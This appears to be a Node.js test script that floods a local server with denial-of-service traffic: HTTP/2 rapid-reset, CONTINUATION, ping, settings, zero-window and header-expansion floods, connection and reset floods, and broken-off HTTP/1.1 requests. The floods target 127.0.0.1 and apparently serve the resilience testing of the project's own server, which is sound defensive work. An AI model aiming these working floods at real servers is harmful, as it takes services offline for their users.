// Floods, in a process of their own, at a rate that does not depend on who is flooded:
// `node script/attack-floods.mjs KIND PORT SECONDS CONNECTIONS KEY`.
// `sink` as the kind is the other side instead: it takes everything, answers nothing, and prints
// its port. What a machine suffers from a flood of it is the flood's own work.
import { connect, createServer } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const ADDRESS = '127.0.0.3'
const TICK_MS = 20
/** Connections that plain floods open at a tick: some 2500 in a second. */
const OPENED_AT_ONCE = 50
/** Exchanges that are broken off at a tick: some 1000 in a second. */
const BROKEN_AT_ONCE = 20
/** Connections of an HTTP/2 flood, and how many are opened in a second, at first and again. */
const SPEAKERS = 20
const SPEAKERS_IN_A_SECOND = 10
/** Frames that each of them sends at a tick: 50,000 in a second over all. */
const FRAMES = 50
/** Requests at a time on one connection, as many as the server takes. */
const STREAMS = 100
/** What is not taken by the server is not piled up here. */
const MOST_UNSENT_BYTES = 1 << 20

// -- frames of HTTP/2 (RFC 9113) --------------------------------------------------------------

const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9]
const [NOTHING, END_STREAM, END_HEADERS] = [0, 1, 4]
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

function frame(kind, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = kind
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** Fields of less than 127 bytes, as literals that nobody remembers (RFC 7541 §6.2.2). */
const block = (fields) => Buffer.concat(fields.flatMap(([name, value]) =>
  [Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]),
    Buffer.from(value)]))

const fieldsOf = (method, key) => [[':method', method], [':scheme', 'http'],
  [':authority', 'api.example'], [':path', '/v1/reports'], ['authorization', `Bearer ${key}`]]

/** A setting: the initial windows of streams. */
const NO_WINDOW = Buffer.from([0, 4, 0, 0, 0, 0])
const SMALL_WINDOW = Buffer.from([0, 4, 0, 0, 255, 255])
/** A field of 4000 bytes that is remembered, and then named until the head has 15,000 bytes. */
const unfolding = (key) => {
  const known = Buffer.concat([Buffer.from([0x40, 3]), Buffer.from('x-a'),
    Buffer.from([0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 'y')])
  const fields = Buffer.concat([block(fieldsOf('GET', key)), known])
  return Buffer.concat([fields, Buffer.alloc(15_000 - fields.length, 0xbe)])
}

/** What each flood begins a connection with, and sends at each tick, counted on a connection. */
function speech(kind, key) {
  const begin = (...frames) => Buffer.concat([PREFACE, frame(SETTINGS, NOTHING, 0), ...frames])
  const get = (stream) => frame(HEADERS, END_HEADERS | END_STREAM, stream,
    block(fieldsOf('GET', key)))
  const always = (what) => () => Array.from({ length: FRAMES }, () => what)
  const unended = (fields) => frame(HEADERS, NOTHING, 1, block(fields))
  return {
    'h2-resets': [begin(), (tick) => Array.from({ length: FRAMES }, (_, at) => {
      const stream = 2 * (tick * FRAMES + at) + 1
      const cancel = frame(RST_STREAM, NOTHING, stream, Buffer.from([0, 0, 0, 8]))
      return Buffer.concat([get(stream), cancel])
    })],
    'h2-continuations': [begin(unended([[':method', 'GET']])),
      always(frame(CONTINUATION, NOTHING, 1, block([['x-a', 'y'.repeat(100)]])))],
    'h2-empty-continuations': [begin(unended([[':method', 'GET']])),
      always(frame(CONTINUATION, NOTHING, 1))],
    'h2-pings': [begin(), always(frame(PING, NOTHING, 0, Buffer.alloc(8)))],
    'h2-settings': [begin(), always(frame(SETTINGS, NOTHING, 0, SMALL_WINDOW))],
    'h2-empty-bodies': [begin(frame(HEADERS, END_HEADERS, 1, block(fieldsOf('POST', key)))),
      always(frame(DATA, NOTHING, 1))],
    'h2-untaken': [Buffer.concat([PREFACE, frame(SETTINGS, NOTHING, 0, NO_WINDOW),
      ...Array.from({ length: STREAMS }, (_, at) => get(2 * at + 1))]), () => []],
    'h2-unfolding': [begin(), (tick) =>
      [frame(HEADERS, END_HEADERS | END_STREAM, 2 * tick + 1, unfolding(key))]],
  }[kind]
}

// -- floods -----------------------------------------------------------------------------------

function opened(port, open) {
  const socket = connect({ port, host: '127.0.0.1', localAddress: ADDRESS })
  open.add(socket)
  // a server that defends itself ends connections in every way there is
  socket.on('error', () => {})
  socket.on('close', () => open.delete(socket))
  socket.resume()
  return socket
}

/** Connections that are kept for as long as they last, or torn down at once. */
async function connections(kind, port, until, count) {
  const open = new Set()
  while (performance.now() < until) {
    const wanted = kind === 'hold' ? count * 2 : OPENED_AT_ONCE
    for (let made = 0; made < OPENED_AT_ONCE && open.size < wanted; made += 1) {
      const socket = opened(port, open)
      if (kind === 'reset') socket.on('connect', () => socket.resetAndDestroy())
    }
    await pause(TICK_MS)
  }
  for (const socket of open) socket.destroy()
}

/**
 * Requests on connections of their own, broken off when they have begun: by what is no chunk of
 * their bodies, or by the end of the connection.
 */
async function breakers(kind, port, until, key) {
  const open = new Set()
  const [line, more] = kind === 'leave' ?
    ['GET /v1/reports', ''] :
    ['POST /v1/reports/build', 'transfer-encoding: chunked\r\n\r\n2\r\nhi']
  const text = `${line} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\n${more}\r\n`
  let begun = []
  while (performance.now() < until) {
    for (const socket of begun) {
      if (kind === 'leave') socket.resetAndDestroy()
      else socket.write('zz\r\n')
    }
    begun = Array.from({ length: BROKEN_AT_ONCE }, () => opened(port, open))
    for (const socket of begun) socket.write(text)
    await pause(TICK_MS)
  }
  for (const socket of open) socket.destroy()
}

/** Connections that speak HTTP/2, more and more; one that was ended is replaced. */
async function speakers([beginning, saying], port, until) {
  const open = new Set()
  const ticks = new Map()
  let allowed = 1
  while (performance.now() < until) {
    allowed = Math.min(SPEAKERS, allowed + SPEAKERS_IN_A_SECOND * TICK_MS / 1_000)
    for (; open.size < SPEAKERS && allowed >= 1; allowed -= 1) {
      const socket = opened(port, open)
      socket.write(beginning)
      ticks.set(socket, 0)
      socket.on('close', () => ticks.delete(socket))
    }
    for (const socket of open) {
      if (!socket.writable || socket.writableLength > MOST_UNSENT_BYTES) continue
      const tick = ticks.get(socket)
      ticks.set(socket, tick + 1)
      const frames = saying(tick)
      if (frames.length > 0) socket.write(Buffer.concat(frames))
    }
    await pause(TICK_MS)
  }
  for (const socket of open) socket.destroy()
}

const [kind, port, seconds, count, key] = process.argv.slice(2)
if (kind === 'sink') {
  const server = createServer((socket) => socket.on('error', () => {}).resume())
  server.listen(0, '127.0.0.1', () => console.log(server.address().port))
} else {
  const until = performance.now() + Number(seconds) * 1_000
  const spoken = speech(kind, key ?? '')
  if (spoken !== undefined) await speakers(spoken, Number(port), until)
  else if (['break-off', 'leave'].includes(kind)) await breakers(kind, Number(port), until, key)
  else await connections(kind, Number(port), until, Number(count))
}
